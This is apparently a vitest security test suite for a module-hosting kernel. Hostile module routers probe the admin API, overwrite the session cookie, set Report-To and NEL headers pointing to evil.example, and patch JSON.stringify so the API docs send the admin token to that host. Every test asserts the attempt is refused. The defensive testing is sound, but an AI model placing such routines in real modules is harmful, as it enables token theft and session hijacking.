// A hostile module against the HTTP side of the trust boundary (issue 11 items 5, 8-docs,
// 10-docs, 11, 12). Each attempt is made the way module code or a web page would make it;
// each asserts the refusal and that the victim module and the kernel are untouched.
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rawRequest } from './helpers/http.js';
import { startKernel, stopAllKernels, type RunningKernel } from './helpers/kernel.js';
import { helloRouter, tempDir, writeModule } from './helpers/modules.js';
import { waitFor } from './helpers/wait.js';

// Everything an attacker needs is a fetch from inside its own child process.
const evilRouter = `export default (router) => {
  router.get('/try', async (req, res) => {
    const out = {};
    const go = async (key, url, init) => {
      try { const r = await fetch(url, init); out[key] = r.status; await r.arrayBuffer(); } catch (e) { out[key] = 'error ' + e.message; }
    };
    const { pub, adm, victimPort } = req.query;
    await go('disablePublic', 'http://127.0.0.1:' + pub + '/api/v1/modules/victim/disable', { method: 'POST' });
    await go('disableAdmin', 'http://127.0.0.1:' + adm + '/api/v1/modules/victim/disable', { method: 'POST' });
    await go('logsPublic', 'http://127.0.0.1:' + pub + '/api/v1/modules/victim/logs');
    await go('logsAdmin', 'http://127.0.0.1:' + adm + '/api/v1/modules/victim/logs');
    await go('metrics', 'http://127.0.0.1:' + adm + '/metrics');
    for (const path of ['/api/v1/victim/hello', '/api/v1/victim/health', '/_hub/openapi.json', '/_hub/stats']) {
      await go('direct ' + path, 'http://127.0.0.1:' + victimPort + path);
    }
    res.json(out);
  });
  // answer headers that set policy for the whole host or origin, beside one of its own
  router.get('/origin-wide', (req, res) => {
    res.set({
      'clear-site-data': '"cookies"',
      'service-worker-allowed': '/',
      nel: '{"report_to":"loot","max_age":31536000,"include_subdomains":true,"success_fraction":1.0}',
      'report-to': '{"group":"loot","max_age":31536000,"endpoints":[{"url":"https://evil.example/r"}]}',
      'strict-transport-security': 'max-age=31536000; includeSubDomains',
      'x-own': 'kept',
    });
    res.json({ ok: true });
  });
  // what the module's code gets to see of a proxied request
  router.get('/headers', (req, res) => res.json({ headers: req.headers, raw: req.rawHeaders }));
  // and what it tries to set: the hub's own session cookie (cookies ignore ports)
  router.get('/set-cookie', (req, res) => {
    res.setHeader('set-cookie', ['hub_admin_session=fixed-by-module; Path=/; HttpOnly', 'theme=dark; Path=/']);
    res.json({ ok: true });
  });
};`;

// "notes" with writes on: an in-memory list, so what a refused request did not create shows
const notesRouter = `const notes = [];
export default (router) => {
  router.get('/notes', (req, res) => res.json(notes));
  router.post('/notes', (req, res) => { notes.push(req.body?.text ?? ''); res.status(201).json({ id: notes.length }); });
};`;

// API docs that try to borrow the kernel's adminToken scheme and send "Try it out" elsewhere
const docsThiefRouter = `export default (router, ctx) => {
  router.get('/mine', (req, res) => res.json({ ok: true }));
  const stringify = JSON.stringify;
  JSON.stringify = function (value, ...rest) {
    if (value && typeof value === 'object' && value.openapi && value.paths) {
      for (const item of Object.values(value.paths)) for (const op of Object.values(item)) {
        op.security = [{ adminToken: [] }];
        op.servers = [{ url: 'http://evil.example' }];
      }
      value.paths['/mine'].servers = [{ url: 'http://evil.example' }];
      value.components = { securitySchemes: { adminToken: { type: 'apiKey', in: 'query', name: 'steal' } } };
    }
    return stringify.call(this, value, ...rest);
  };
};`;

// two modules describing their routes with 100 MB each (issue 11 item 8)
const hugeDocsRouter = `export default (router, ctx) => {
  router.get('/x', (req, res) => res.json({ ok: true }));
  ctx.docs('get', '/x', { description: 'x'.repeat(100 * 1024 * 1024) });
};`;

let k: RunningKernel;

function rssBytes(pid: number): number {
  const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
  return Number(m![1]) * 1024;
}

beforeAll(async () => {
  const modulesDir = tempDir('modules');
  writeModule(modulesDir, 'victim', { router: helloRouter });
  writeModule(modulesDir, 'evil', { router: evilRouter });
  writeModule(modulesDir, 'notes', { router: notesRouter });
  writeModule(modulesDir, 'docs_thief', { router: docsThiefRouter });
  k = await startKernel({ modulesDir, env: { HUB_ALLOWED_HOSTS: 'hub.example' } });
});

afterAll(stopAllKernels);

describe('a module driving the admin API and other children from its own process', () => {
  it('gets 401 for admin routes on both origins and 403 from the victim child; the victim keeps running', async () => {
    const victim = await k.record('victim');
    const out = await k.json(`/api/v1/evil/try?pub=${k.port}&adm=${k.adminPort}&victimPort=${victim.port}`);
    expect(out).toEqual({
      disablePublic: 401,
      disableAdmin: 401,
      logsPublic: 401,
      logsAdmin: 401,
      metrics: 401,
      'direct /api/v1/victim/hello': 403,
      'direct /api/v1/victim/health': 403,
      'direct /_hub/openapi.json': 403,
      'direct /_hub/stats': 403,
    });
    const after = await k.record('victim');
    expect(after).toMatchObject({ state: 'running', enabled: true, pid: victim.pid });
    expect((await k.get('/api/v1/victim/hello')).status).toBe(200);
  });

  it('never shows module code the kernel secret or the hub admin cookie; client copies are replaced', async () => {
    const res = await k.get('/api/v1/evil/headers', {
      headers: { 'x-hub-secret': 'client-sent', cookie: 'hub_admin_session=stolen; theme=dark' },
    });
    const { headers, raw } = (await res.json()) as { headers: Record<string, string>; raw: string[] };
    expect(res.status).toBe(200);
    expect(headers['x-hub-secret']).toBeUndefined();
    expect(raw.map((h) => h.toLowerCase())).not.toContain('x-hub-secret');
    expect(headers.cookie).toBe('theme=dark');
    expect(raw.join('\n')).not.toMatch(/hub_admin_session|client-sent/);
  });
});

describe('bearer credentials', () => {
  it('never reach module code: the admin token sent to a module route stays with the gateway (red team)', async () => {
    const token = k.adminToken()!;
    for (const value of [`Bearer ${token}`, `bearer ${token}`, ` Bearer bmc_pat_abc`]) {
      const res = await k.get('/api/v1/evil/headers', { headers: { authorization: value } });
      const { headers, raw } = (await res.json()) as { headers: Record<string, string>; raw: string[] };
      expect(headers.authorization, value).toBeUndefined();
      expect(raw.join('\n')).not.toContain(token);
    }
    // a module's own scheme passes through
    const basic = await k.get('/api/v1/evil/headers', { headers: { authorization: 'Basic dXNlcjpwdw==' } });
    expect(((await basic.json()) as { headers: Record<string, string> }).headers.authorization).toBe('Basic dXNlcjpwdw==');
  });
});

describe('cookies across ports', () => {
  it('a module cannot set or overwrite the hub admin session cookie; its own cookies pass', async () => {
    const res = await k.get('/api/v1/evil/set-cookie');
    expect(res.status).toBe(200);
    expect(res.headers.getSetCookie()).toEqual(['theme=dark; Path=/']);
  });
});

describe('answer headers that reach beyond the module', () => {
  it('are dropped: Clear-Site-Data, Service-Worker-Allowed, NEL, Report-To, Strict-Transport-Security; its own pass', async () => {
    const res = await k.get('/api/v1/evil/origin-wide');
    expect(res.status).toBe(200);
    for (const h of ['clear-site-data', 'service-worker-allowed', 'nel', 'report-to', 'strict-transport-security']) expect(res.headers.get(h), h).toBeNull();
    expect(res.headers.get('x-own')).toBe('kept');
  });
});

describe('cross-site requests to module routes', () => {
  it('refuses a form POST from another origin (403) and creates no note', async () => {
    const form = { 'content-type': 'application/x-www-form-urlencoded' };
    for (const headers of [{ origin: 'http://evil.example' }, { origin: 'null' }, { 'sec-fetch-site': 'cross-site' }] as Record<string, string>[]) {
      const res = await k.get('/api/v1/notes/notes', { method: 'POST', body: 'text=pwned', headers: { ...form, ...headers } });
      expect(res.status, JSON.stringify(headers)).toBe(403);
      expect(await res.json()).toMatchObject({ error: 'forbidden' });
    }
    expect(await k.json('/api/v1/notes/notes')).toEqual([]);
    // server-to-server (no Origin) and the hub's own pages still pass; reads are never refused
    expect((await k.get('/api/v1/notes/notes', { method: 'POST', body: 'text=webhook', headers: form })).status).toBe(201);
    expect((await k.get('/api/v1/notes/notes', { method: 'POST', body: 'text=own', headers: { ...form, origin: k.url, 'sec-fetch-site': 'same-origin' } })).status).toBe(201);
    expect((await k.get('/api/v1/notes/notes', { headers: { origin: 'http://evil.example' } })).status).toBe(200);
    expect(await k.json('/api/v1/notes/notes')).toEqual(['webhook', 'own']);
  });
});

describe('Host names (DNS rebinding)', () => {
  it('answers 421 to Host: evil.example on /health, a module route and the admin origin; HUB_ALLOWED_HOSTS names pass', async () => {
    for (const [port, path] of [[k.port, '/health'], [k.port, '/api/v1/victim/hello'], [k.port, '/victim'], [k.adminPort, '/login']] as const) {
      const res = await rawRequest({ port, path, headers: { host: 'evil.example' } });
      expect(res.status, path).toBe(421);
      expect(res.body).toMatchObject({ error: 'misdirected_request' });
    }
    expect((await rawRequest({ port: k.port, path: '/api/v1/victim/hello', headers: { host: 'hub.example' } })).status).toBe(200);
    expect((await rawRequest({ port: k.adminPort, path: '/login', headers: { host: 'hub.example:8001' } })).status).toBe(200);
  });
});

describe('API docs written by a module', () => {
  it('carry only the kernel security: module operations have security [] and no servers', async () => {
    await k.waitForState('docs_thief', 'running');
    const doc = await k.json('/api/docs/openapi.json');
    const op = doc.paths['/api/v1/docs_thief/mine'].get;
    expect(op).toBeDefined();
    expect(op.security).toEqual([]);
    expect(op.servers).toBeUndefined();
    expect(doc.paths['/api/v1/docs_thief/mine'].servers).toBeUndefined();
    // the public origin's copy has no scheme at all: nothing there asks for the token
    expect(doc.components).toBeUndefined();
    for (const [path, item] of Object.entries<Record<string, { security?: unknown }>>(doc.paths)) {
      for (const o of Object.values(item)) expect(o.security ?? [], path).toEqual([]);
    }
    // the admin origin's copy: the kernel's scheme on the kernel's operations, never on a module's
    const adminDoc = (await (await k.admin('/api/docs/openapi.json')).json()) as any;
    expect(adminDoc.components.securitySchemes.adminToken).toMatchObject({ type: 'http', scheme: 'bearer' });
    expect(adminDoc.paths['/api/v1/modules/{name}/disable'].post.security).toEqual([{ adminToken: [] }]);
    // and no module operation at all: its "Try it out" would carry the admin session
    expect(adminDoc.paths['/api/v1/docs_thief/mine']).toBeUndefined();
  });

  it('are dropped with a reason past 2 MB: two 100 MB descriptions cost the kernel little and stall nobody', async () => {
    const modulesDir = tempDir('modules');
    writeModule(modulesDir, 'huge_one', { router: hugeDocsRouter, manifest: { max_memory_mb: 1024 } });
    writeModule(modulesDir, 'huge_two', { router: hugeDocsRouter, manifest: { max_memory_mb: 1024 } });
    writeModule(modulesDir, 'calm', { router: helloRouter });
    const h = await startKernel({ modulesDir });
    const before = rssBytes(h.proc.pid!);
    let slowest = 0;
    let probing = true;
    const probe = (async () => {
      while (probing) {
        const t = performance.now();
        expect((await h.get('/api/v1/calm/hello')).status).toBe(200);
        slowest = Math.max(slowest, performance.now() - t);
        await new Promise((r) => setTimeout(r, 20));
      }
    })();
    // under load the first read may time out (the child serialises 100 MB); either way both
    // are left out with a reason, and once a document has been read past 2 MB it stays refused
    const doc = await waitFor(async () => {
      const d = await h.json('/api/docs/openapi.json');
      expect(d.info.description).toMatch(/huge_one \((API docs|no answer)/);
      return /huge_one \(API docs[^)]*limit\)/.test(d.info.description) && /huge_two \(API docs[^)]*limit\)/.test(d.info.description) ? d : undefined;
    }, { timeoutMs: 60_000, what: 'both huge documents refused for their size' });
    probing = false;
    await probe;
    expect(doc.paths['/api/v1/calm/hello']).toBeDefined();
    expect(doc.paths['/api/v1/huge_one/x']).toBeUndefined();
    expect(doc.info.description).toMatch(/huge_one \(API docs[^)]*2097152-byte limit\)/);
    expect(await h.waitForLog(/API docs of huge_one left out: .*limit/)).toBeTruthy();
    const grown = rssBytes(h.proc.pid!) - before;
    console.log(`two 100 MB API docs: kernel RSS +${(grown / 2 ** 20).toFixed(1)} MB, slowest calm request ${slowest.toFixed(0)} ms`);
    expect(grown).toBeLessThan(64 * 1024 * 1024);
    // the two children serialising 100 MB each compete for this 2-core machine's CPU, so a
    // request can wait a while; what must not happen is the kernel itself stalling for seconds
    expect(slowest).toBeLessThan(2000);
    expect((await h.record('calm')).state).toBe('running');
    await h.stop();
  }, 120_000);
});
